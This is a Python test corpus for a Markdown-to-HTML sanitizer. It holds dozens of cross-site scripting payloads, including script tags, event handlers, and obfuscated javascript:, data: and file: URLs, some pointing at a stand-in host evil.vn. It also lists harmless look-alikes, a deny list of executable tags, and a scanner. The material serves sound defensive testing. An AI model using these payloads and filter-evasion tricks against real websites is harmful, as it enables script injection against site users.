"""The hostile corpus shared by the markup tests and the browser test.

REJECTED: bodies the check refuses, each with the exact (body line, what) it reports.
HARMLESS: bodies that pass the check and are published with nothing that can run; each
with a fragment the sanitized HTML must contain (what the reader sees instead).
"""

from __future__ import annotations

from html.parser import HTMLParser

# (id, body, [(line within the body, counted from 1; a word of the message)])
REJECTED: list[tuple[str, str, list[tuple[int, str]]]] = [
    # -- raw tags that load, run, embed or submit
    ("script", "Mở đầu.\n\n<script>alert(1)</script>\n", [(3, "<script>")]),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>\n", [(1, "<script>")]),
    ("script-src", "<script src=//evil.vn/x.js></script>\n", [(1, "<script>")]),
    ("script-inline", "Chữ <script>alert(1)</script> chữ.\n", [(1, "<script>")]),
    ("script-split", "<scr<script>ipt>alert(1)</script>\n", [(1, "<script>")]),
    ("script-in-svg", "<svg><script>alert(1)</script></svg>\n", [(1, "<svg>"), (1, "<script>")]),
    ("iframe", "<iframe src=https://evil.vn></iframe>\n", [(1, "<iframe>")]),
    ("iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>\n", [(1, "<iframe>")]),
    ("object", "<object data=x.swf></object>\n", [(1, "<object>")]),
    ("embed", "Đoạn.\n\n<embed src=x.swf>\n", [(3, "<embed>")]),
    (
        "form",
        "<form action=https://evil.vn><input name=q></form>\n",
        [(1, "<form>"), (1, "<input>")],
    ),
    (
        "button-formaction",
        "<button formaction=javascript:alert(1)>Gửi</button>\n",
        [(1, "<button>")],
    ),
    ("textarea", "<textarea>x</textarea>\n", [(1, "<textarea>")]),
    ("select", "<select><option>a</option></select>\n", [(1, "<select>"), (1, "<option>")]),
    ("style-tag", "<style>body{display:none}</style>\n", [(1, "<style>")]),
    ("link-tag", "<link rel=stylesheet href=https://evil.vn/x.css>\n", [(1, "<link>")]),
    (
        "meta-refresh",
        "<meta http-equiv=refresh content='0;url=https://evil.vn'>\n",
        [(1, "<meta>")],
    ),
    ("base", "<base href=https://evil.vn/>\n", [(1, "<base>")]),
    ("svg-onload", "<svg/onload=alert(1)>\n", [(1, "onload=")]),
    ("math", "<math><mtext>x</mtext></math>\n", [(1, "<math>"), (1, "<mtext>")]),
    ("video", "<video src=x onerror=alert(1)></video>\n", [(1, "<video>")]),
    ("audio", "<audio src=x></audio>\n", [(1, "<audio>")]),
    ("frameset", "<frameset><frame src=x></frameset>\n", [(1, "<frameset>"), (1, "<frame>")]),
    ("applet", "<applet code=x></applet>\n", [(1, "<applet>")]),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>\n", [(1, "<marquee>")]),
    (
        "template",
        "<template><img src=https://a.vn/x.png onerror=alert(1)></template>\n",
        [(1, "<template>"), (1, "onerror=")],
    ),
    (
        "noscript",
        "<noscript><p title='</noscript><img src=https://a.vn/x onerror=alert(1)>'></noscript>\n",
        [(1, "<noscript>")],
    ),
    ("dialog", "<dialog open>x</dialog>\n", [(1, "<dialog>")]),
    ("portal", "<portal src=https://evil.vn></portal>\n", [(1, "<portal>")]),
    # -- event handlers and forbidden attributes on allowed tags
    ("img-onerror", "<img src=https://a.vn/x.png onerror=alert(1)>\n", [(1, "onerror=")]),
    ("img-spaces", '<img src="https://a.vn/x.png" onerror  =  "alert(1)">\n', [(1, "onerror=")]),
    ("div-onclick", '<div onclick="alert(1)">x</div>\n', [(1, "onclick=")]),
    ("div-multiline", 'Chữ.\n\n<div\n  onclick="alert(1)">x</div>\n', [(4, "onclick=")]),
    ("p-onmouseover", '<p onmouseover="alert(1)">di chuột</p>\n', [(1, "onmouseover=")]),
    (
        "details-ontoggle",
        "<details open ontoggle=alert(1)><summary>x</summary></details>\n",
        [(1, "ontoggle=")],
    ),
    (
        "a-onfocus",
        '<a href="https://a.vn" onfocus="alert(1)" autofocus>x</a>\n',
        [(1, "onfocus="), (1, "autofocus")],
    ),
    ("style-attr", '<p style="position:fixed;top:0">che trang</p>\n', [(1, "style")]),
    ("target", '<a href="https://a.vn" target="_blank">x</a>\n', [(1, "target")]),
    (
        "data-attr",
        '<span data-pagefind-filter="unit:Giả">x</span>\n',
        [(1, "data-pagefind-filter")],
    ),
    (
        "form-attr",
        '<p form="x" formaction="https://evil.vn">x</p>\n',
        [(1, "“form”"), (1, "formaction")],
    ),
    (
        "srcset",
        '<img src="https://a.vn/x.png" srcset="https://evil.vn/y.png 2x">\n',
        [(1, "srcset")],
    ),
    ("xlink", '<a xlink:href="javascript:alert(1)">x</a>\n', [(1, "xlink:href")]),
    ("tabindex", '<p tabindex="1">x</p>\n', [(1, "tabindex")]),
    # -- URL schemes in raw HTML
    ("a-javascript", '<a href="javascript:alert(1)">bấm</a>\n', [(1, "javascript:")]),
    ("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">bấm</a>\n', [(1, "javascript:")]),
    ("a-javascript-entity", '<a href=" JaVa&#115;cript:alert(1)">bấm</a>\n', [(1, "javascript:")]),
    ("a-javascript-hex", '<a href="&#x6A;avascript:alert(1)">bấm</a>\n', [(1, "javascript:")]),
    ("a-javascript-tab", '<a href="jav\tascript:alert(1)">bấm</a>\n', [(1, "javascript:")]),
    (
        "a-javascript-nl-entity",
        '<a href="java&#10;script:alert(1)">bấm</a>\n',
        [(1, "javascript:")],
    ),
    ("a-vbscript", "<a href='vbscript:msgbox(1)'>x</a>\n", [(1, "vbscript:")]),
    ("a-data", '<a href="data:text/html,<script>alert(1)</script>">x</a>\n', [(1, "data:")]),
    ("a-file", '<a href="file:///etc/passwd">x</a>\n', [(1, "file:")]),
    ("a-ftp", '<a href="ftp://a.vn/x">x</a>\n', [(1, "ftp:")]),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">\n', [(1, "data:")]),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">x</blockquote>\n', [(1, "cite")]),
    # -- attr_list: every attribute it adds goes through the same allowlist
    ("attr-link-onclick", '[x](https://a.vn/){: onclick="alert(1)" }\n', [(1, "onclick=")]),
    ("attr-paragraph", 'Một đoạn văn.\n{: onmouseover="alert(1)" }\n', [(2, "onmouseover=")]),
    ("attr-heading", "## Tiêu đề {: onclick=alert(1) }\n", [(1, "onclick=")]),
    ("attr-href", "[x](https://a.vn/){: href=javascript:alert(1) }\n", [(1, "javascript:")]),
    ("attr-style", 'Đoạn văn.\n{: style="position:fixed;inset:0" }\n', [(2, "style")]),
    (
        "attr-autofocus",
        "Đoạn văn.\n{: autofocus onfocus=alert(1) }\n",
        [(2, "onfocus="), (2, "autofocus")],
    ),
    ("attr-image", "![ảnh](https://a.vn/x.png){: onerror=alert(1) }\n", [(1, "onerror=")]),
    ("attr-list-item", "- mục một\n- mục hai\n{: onclick=alert(1) }\n", [(3, "onclick=")]),
    ("attr-data", "Đoạn.\n{: data-md-component=skip }\n", [(2, "data-md-component")]),
    # -- Markdown links and images
    ("md-link", "[Xem thêm](javascript:alert(1))\n", [(1, "javascript:")]),
    ("md-link-upper", "[Xem](JAVASCRIPT:alert(1))\n", [(1, "javascript:")]),
    ("md-link-angle", "[x](<javascript:alert(1)>)\n", [(1, "javascript:")]),
    ("md-link-space", "[x]( javascript:alert(1))\n", [(1, "javascript:")]),
    ("md-link-title", '[x](javascript:alert(1) "tiêu đề")\n', [(1, "javascript:")]),
    ("md-image", "![ảnh](javascript:alert(1))\n", [(1, "javascript:")]),
    ("md-image-data", "![ảnh](data:image/svg+xml;base64,PHN2Zz4=)\n", [(1, "data:")]),
    ("md-vbscript", "[x](vbscript:msgbox)\n", [(1, "vbscript:")]),
    (
        "md-reference",
        "Xem [tại đây][1].\n\n[1]: javascript:alert(1)\n",
        [(3, "javascript:"), (3, "[1]")],
    ),
    (
        "md-reference-next-line",
        "Xem [đây][r].\n\n[r]:\n    javascript:alert(1)\n",
        [(4, "javascript:"), (3, "[r]")],
    ),
    (
        "md-reference-quote",
        "> Xem [đây][q].\n>\n> [q]: javascript:alert(1)\n",
        [(3, "javascript:"), (3, "[q]")],
    ),
    (
        "md-reference-list",
        "- Xem [đây][l].\n\n[l]: javascript:alert(1)\n",
        [(3, "javascript:"), (3, "[l]")],
    ),
    ("md-reference-unused", "Chữ.\n\n[tham chiếu]: javascript:alert(1)\n", [(3, "[tham chiếu]")]),
    ("md-autolink-js", "<javascript:alert(1)>\n", [(1, "javascript:alert(1)")]),
    ("md-in-list", "1. Mục\n2. [x](javascript:alert(1))\n", [(2, "javascript:")]),
    (
        "md-in-table",
        "| a | b |\n|---|---|\n| [x](javascript:alert(1)) | 2 |\n",
        [(3, "javascript:")],
    ),
    ("md-in-admonition", '!!! note "Chú ý"\n    [x](javascript:alert(1))\n', [(2, "javascript:")]),
    ("md-in-html", '<div markdown="1">\n[x](javascript:alert(1))\n</div>\n', [(2, "javascript:")]),
    # -- fences that are not fences to Markdown
    ("fence-info-words", "~~~ xem thêm\n<script>alert(1)</script>\n~~~\n", [(2, "<script>")]),
    (
        "fence-unclosed-html",
        "``` \n<img src=https://a.vn/x.png onerror=alert(1)>\n",
        [(2, "onerror=")],
    ),
    ("code-span-broken", "`chưa đóng <script>alert(1)</script>\n", [(1, "<script>")]),
    # -- malformed markup browsers still run
    ("nested-quotes", '<IMG """><SCRIPT>alert(1)</SCRIPT>">\n', [(1, "<script>")]),
    (
        "later-line",
        "Dòng 1.\n\nDòng 3.\n\nDòng 5 <b onclick=alert(1)>đậm</b>.\n",
        [(5, "onclick=")],
    ),
    (
        "two-lines",
        "<i onclick=a>x</i>\n\nChữ.\n\n<u onclick=b>y</u>\n",
        [(1, "onclick="), (5, "onclick=")],
    ),
]

# (id, body, fragment the sanitized HTML contains)
HARMLESS: list[tuple[str, str, str]] = [
    ("code-span", "Viết `<script>alert(1)</script>` trong dấu huyền.\n", "<code>&lt;script&gt;"),
    ("fence", "```html\n<script>alert(1)</script>\n```\n", "&lt;script&gt;alert(1)"),
    ("fence-tilde", "~~~\n<img src=x onerror=alert(1)>\n~~~\n", "&lt;img src=x onerror"),
    ("indented-code", "Mã:\n\n    <script>alert(1)</script>\n", "<pre><code>&lt;script&gt;"),
    (
        "indented-fence",
        "Chữ.\n\n    ```\n    <script>alert(1)</script>\n    ```\n",
        "&lt;script&gt;",
    ),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt;\n", "&lt;script&gt;"),
    ("unknown-tag", "<formation> là chữ trong ngoặc nhọn.\n", "&lt;formation&gt;"),
    ("custom-element", "<my-widget onclick=alert(1)>x</my-widget>\n", "&lt;my-widget onclick"),
    ("vietnamese-tag", "Cụm <tên người> viết trong ngoặc.\n", "&lt;tên người&gt;"),
    ("lt-no-gt", "Chữ a <b onclick=alert(1)\n", "&lt;b onclick"),
    (
        "heading-tag",
        "# <img src=https://a.vn/x onerror=alert(1)//\n",
        "&lt;img src=https://a.vn/x onerror",
    ),
    (
        "plain-javascript",
        "Trang dùng javascript: alert(1) không phải liên kết.\n",
        "javascript: alert(1)",
    ),
    (
        "url-contains-js",
        "[Bài](https://a.vn/tin/javascript:khong)\n",
        'href="https://a.vn/tin/javascript:khong"',
    ),
    (
        "query-js",
        "[x](https://a.vn/?u=javascript:alert(1))\n",
        'href="https://a.vn/?u=javascript:alert(1)"',
    ),
    (
        "title-onclick",
        '<a href="https://a.vn" title="onclick=alert(1)">x</a>\n',
        'title="onclick=alert(1)"',
    ),
    ("alt-on", '<img src="https://a.vn/a.png" alt="on=off">\n', 'alt="on=off"'),
    ("mailto", "[Thư](mailto:bientap@example.vn)\n", 'href="mailto:bientap@example.vn"'),
    ("tel", "[Gọi](tel:19001234)\n", 'href="tel:19001234"'),
    ("relative", "[An](../exemplars/nguyen-van-an.md)\n", "nguyen-van-an"),
    ("fragment", "[Lên đầu](#dau-trang)\n", 'href="#dau-trang"'),
    ("comment", "Chữ <!-- <script>alert(1)</script> --> chữ.\n", "Chữ  chữ."),
    (
        "conditional-comment",
        "<!--[if IE]><script>alert(1)</script><![endif]-->\n\nChữ.\n",
        "<p>Chữ.</p>",
    ),
    ("details", "<details><summary>Thêm</summary>Nội dung</details>\n", "<summary>Thêm</summary>"),
    ("table-align", "| a | b |\n|:-:|--:|\n| 1 | 2 |\n", 'style="text-align:center"'),
    ("admonition", '!!! note "Chú ý"\n    Nội dung.\n', 'class="admonition note"'),
    ("attr-class-id", "Đoạn.\n{: .noi-bat #doan-1 }\n", 'id="doan-1"'),
    ("abbr", '<abbr title="Ủy ban nhân dân">UBND</abbr>\n', '<abbr title="Ủy ban nhân dân">'),
    ("external-image", "![ảnh](https://a.vn/a.png)\n", 'src="https://a.vn/a.png"'),
    ("kbd-mark", "<kbd>Ctrl</kbd> <mark>chú ý</mark> <sup>2</sup>\n", "<mark>chú ý</mark>"),
    ("protocol-relative", "[x](//a.vn/tin)\n", 'href="//a.vn/tin"'),
    ("html-escaped-attr", '<a href="https://a.vn/?a=1&amp;b=2">x</a>\n', "a=1&amp;b=2"),
    ("emphasis-onclick", "*onclick=alert(1)* và **javascript:x**\n", "<em>onclick=alert(1)</em>"),
    ("math-words", "Công thức a < b và c > d, 3 < 5.\n", "a &lt; b"),
    (
        "img-slash",
        "<img/src=https://a.vn/x.png/onerror=alert(1)>\n",
        'src="https://a.vn/x.png/onerror=alert(1)"',
    ),
    ("a-slash-attr", '<a/href="javascript:alert(1)">x</a>\n', "&lt;a/href="),
]

EXECUTABLE_TAGS = frozenset(
    [
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "style",
        "link",
        "meta",
        "base",
        "svg",
        "math",
        "video",
        "audio",
        "frame",
        "frameset",
        "applet",
        "template",
        "noscript",
        "marquee",
        "portal",
    ]
)


class _Scan(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in EXECUTABLE_TAGS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            # As a browser reads a URL: outer spaces and controls trimmed, tabs and
            # newlines inside dropped (a space inside makes it relative, not a scheme).
            url = (value or "").strip("".join(map(chr, range(33))))
            url = url.replace("\t", "").replace("\n", "").replace("\r", "").lower()
            risky = name.startswith("on") or name in ("style", "srcset", "formaction")
            if risky and (name != "style" or tag not in ("td", "th")):
                self.bad.append(f"{tag}.{name}")
            if name in ("href", "src", "cite", "action") and url.split(":")[0] in (
                "javascript",
                "vbscript",
                "data",
                "file",
            ):
                self.bad.append(f"{tag}.{name}={url[:20]}")


def executable(html: str) -> list[str]:
    """Anything in this HTML that could run, load or submit: empty for a harmless page."""
    scan = _Scan()
    scan.feed(html)
    scan.close()
    return scan.bad
